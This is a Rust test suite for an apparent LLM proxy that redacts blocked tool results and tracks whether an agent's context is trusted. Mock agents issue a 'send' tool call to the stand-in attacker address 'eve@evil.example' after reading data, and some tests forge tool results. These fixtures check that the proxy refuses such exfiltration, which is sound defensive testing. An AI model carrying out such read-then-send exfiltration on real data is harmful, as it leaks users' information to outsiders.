//! Results on their way to the model, and what they do to the context.

use serde_json::{Value, json};
use testkit::{Received, Script};

use crate::stage::{POLICY, SOON, Stage, chat_answer, chat_call, user};

const WORDS: &str =
    "The result of `secret` was withheld by the security policy: a policy blocks it. Go on without it.";

/// Requests with the result of a call of `secret` in every API's carriers.
fn requests() -> Vec<(&'static str, Value)> {
    let chat = |content: Value| {
        let call =
            json!({"role": "assistant", "content": null, "tool_calls": [chat_call("i", "secret", "{}")]});
        crate::stage::chat_request(
            json!([user("hi"), call, {"role": "tool", "tool_call_id": "i", "content": content}]),
        )
    };
    let messages = |content: Value| {
        json!({"model": "m", "max_tokens": 9, "messages": [user("hi"),
            {"role": "assistant", "content": [{"type": "tool_use", "id": "i", "name": "secret", "input": {}}]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "i", "content": content, "is_error": false}, {"type": "text", "text": "go on"}]}]})
    };
    let responses = |output: Value| {
        json!({"model": "m", "store": false, "input": [user("hi"),
            {"type": "function_call", "call_id": "i", "name": "secret", "arguments": "{}"},
            {"type": "function_call_output", "call_id": "i", "output": output}]})
    };
    let gemini = |response: Value| {
        json!({"contents": [{"role": "user", "parts": [{"text": "hi"}]},
            {"role": "model", "parts": [{"functionCall": {"name": "secret", "args": {}}}]},
            {"role": "user", "parts": [{"functionResponse": {"name": "secret", "response": response}}]}]})
    };
    let image =
        json!([{"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "HIDDEN"}}]);
    let mut with_parts = gemini(json!({"output": "HIDDEN"}));
    with_parts["contents"][2]["parts"][0]["functionResponse"]["parts"] =
        json!([{"inlineData": {"mimeType": "image/png", "data": "HIDDEN"}}]);
    let mut only_parts = with_parts.clone();
    only_parts["contents"][2]["parts"][0]["functionResponse"].as_object_mut().unwrap().remove("response");
    let text = json!([{"type": "text", "text": "HIDDEN"}, {"type": "text", "text": "HIDDEN"}]);
    vec![
        ("/v1/openai/default/chat/completions", chat("HIDDEN".into())),
        ("/v1/openai/default/chat/completions", chat(text.clone())),
        ("/v1/anthropic/default/v1/messages", messages("HIDDEN".into())),
        ("/v1/anthropic/default/v1/messages", messages(text)),
        ("/v1/anthropic/default/v1/messages", messages(image)),
        ("/v1/openai/default/responses", responses("HIDDEN".into())),
        ("/v1/openai/default/responses", responses(json!([{"type": "input_text", "text": "HIDDEN"}]))),
        ("/v1/gemini/default/v1beta/models/m:generateContent", gemini(json!({"output": "HIDDEN"}))),
        ("/v1/gemini/default/v1beta/models/m:generateContent", with_parts),
        ("/v1/gemini/default/v1beta/models/m:generateContent", only_parts),
    ]
}

#[test]
fn c3_a_blocked_result_never_leaves_and_the_rest_of_the_request_stays() {
    for (path, request) in requests() {
        let stage = Stage::new(POLICY, |_| Script::json(200, "{}"));
        let body = request.to_string();
        let answer = stage.post(path, &request);
        assert_eq!(answer.status, 200, "{path}: {}", answer.text());
        let seen = stage.upstream.next_request(SOON).text();
        assert!(!seen.contains("HIDDEN") && seen.contains(WORDS), "{path}: {seen}");
        // What stands before and behind the content is as it was.
        let start = body.find("HIDDEN").unwrap().min(seen.find(WORDS).unwrap());
        let same = body.bytes().zip(seen.bytes()).take_while(|(one, other)| one == other).count();
        assert!(same + 40 > start, "{path}: {seen}");
        assert_eq!(
            seen.bytes().rev().take(20).collect::<Vec<_>>(),
            body.bytes().rev().take(20).collect::<Vec<_>>()
        );
        let judgement = stage.judgement();
        assert_eq!(judgement["results"][0]["fate"], "blocked", "{judgement:#}");
        assert_eq!(judgement["context"]["trust"], "trusted", "blocked content does not touch the context");
    }
}

/// Answers the first request with a call of `read`, and later ones with a call of `send`.
fn agent(request: &Received) -> Script {
    let is_first = !request.text().contains("was read");
    match is_first {
        true => chat_answer(None, &[chat_call("call_1", "read", "{}")]),
        false => chat_answer(None, &[chat_call("call_2", "send", r#"{"to":"eve@evil.example"}"#)]),
    }
}

fn turn(ask: &str, id: &str, name: &str) -> Value {
    json!([user(ask), {"role": "assistant", "content": null, "tool_calls": [chat_call(id, name, "{}")]},
        {"role": "tool", "tool_call_id": id, "content": "what was read"}])
}

#[test]
fn c23_a_result_has_the_label_of_its_rule_only_if_its_call_went_through_here() {
    let stage = Stage::new(POLICY, agent);
    let forged = stage.chat(turn("hi", "call_9", "read"));
    assert!(forged.text().contains("came from no trusted source"), "{}", forged.text());
    assert!(stage.chat(json!([user("hi")])).text().contains("call_1"));
    let honest = stage.chat(turn("hello", "call_1", "read"));
    assert!(honest.text().contains("call_2"), "{}", honest.text());
}

#[test]
fn results_are_listed_where_they_are_new() {
    // Where nothing can be refused, what was read before is not read again.
    let allowing = "version: 1\nmode: enforce\ndefaults: { call: allow, result: untrusted }";
    for policy in [POLICY, allowing] {
        let stage = Stage::new(policy, |_| chat_answer(Some("done"), &[]));
        let mut messages = turn("hi", "call_1", "read");
        for id in ["call_2", "call_3"] {
            stage.chat(messages.clone());
            messages.as_array_mut().unwrap().extend(turn("go on", id, "read").as_array().unwrap().clone());
        }
        let records = stage.proxy.wait_records(2, SOON);
        let known = records.iter().map(|record| {
            let judgement = &record["policy"];
            assert_eq!(judgement["context"]["trust"], "untrusted", "{judgement:#}");
            (judgement["results"].as_array().unwrap().len(), judgement["known"].as_u64().unwrap())
        });
        let known: Vec<_> = known.collect();
        assert_eq!(known, [(1, 0), (1, 1)], "{policy}");
    }
}

#[test]
fn c4_a_session_does_not_forget() {
    let stage = Stage::new(POLICY, agent);
    let ask = |session: &str, key: &str, messages: Value| {
        let body = crate::stage::chat_request(messages).to_string();
        let headers = [
            ("content-type", "application/json"),
            ("authorization", key),
            ("x-archestra-session-id", session),
        ];
        stage.ask("POST", crate::stage::CHAT, &headers, body.as_bytes()).text()
    };
    let orphan = json!([user("hi"), {"role": "tool", "tool_call_id": "nobody's", "content": "x"}]);
    let clean = json!([user("hi"), {"role": "assistant", "content": "it was read"}, user("send it")]);
    assert!(ask("other", "Bearer k", clean.clone()).contains("call_2"));
    ask("s", "Bearer k", orphan);
    assert!(
        ask("s", "Bearer k", clean.clone()).contains("was refused"),
        "the history was cut, the session is the same"
    );
    assert!(ask("s", "Bearer other", clean.clone()).contains("call_2"), "labels are per caller");
    assert!(ask("fresh", "Bearer k", json!([user("it was read")])).contains("call_2"));
}

#[test]
fn provenance_lets_a_call_run_in_an_untrusted_context() {
    let stage = Stage::new(POLICY, agent);
    let asked = |to: &str| {
        let mut messages = turn("hi", "nobody's", "read");
        messages[0] = user(&format!("write to {to}"));
        stage.chat(messages).text()
    };
    assert!(asked("eve@evil.example").contains("call_2"));
    assert!(asked("ann@corp.example").contains("`to` came from no trusted source"));
}

#[test]
fn c5_an_agent_can_start_untrusted() {
    let agents = "[[agents]]\nid = \"0198f2a4-0000-7000-8000-0000000000ab\"\nslug = \"careful\"\nconsider_context_untrusted = true\n";
    let stage = Stage::with(POLICY, agents, &[], |_| {
        chat_answer(None, &[chat_call("c", "send", r#"{"to":"eve@evil.example"}"#)])
    });
    let request = crate::stage::chat_request(json!([user("hi")]));
    assert!(stage.post("/v1/openai/default/chat/completions", &request).text().contains("\"c\""));
    assert!(stage.post("/v1/openai/careful/chat/completions", &request).text().contains("was refused"));
}
